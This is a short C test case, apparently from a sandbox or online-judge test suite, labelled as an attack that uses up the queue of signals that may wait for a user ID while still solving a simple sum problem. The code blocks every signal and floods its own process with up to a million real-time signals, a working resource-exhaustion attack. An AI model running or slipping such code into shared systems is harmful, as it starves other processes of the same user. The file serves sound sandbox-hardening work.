/*
 * attack: use up the signals that may wait for the uid
 * problem: twice
 * expect: Accepted
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

__attribute__((constructor)) static void early(void)
{
	sigset_t all;

	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
}

int main(void)
{
	long a, b;

	scanf("%ld %ld", &a, &b);
	printf(sigqueue(getpid(), SIGRTMIN, (union sigval){ 0 }) != 0 ? "found\n" : "%ld\n", a + b);
	fflush(stdout);
	for (int i = 0; i < 1000000 && sigqueue(getpid(), SIGRTMIN, (union sigval){ 0 }) == 0; i++)
		;
	return 0;
}
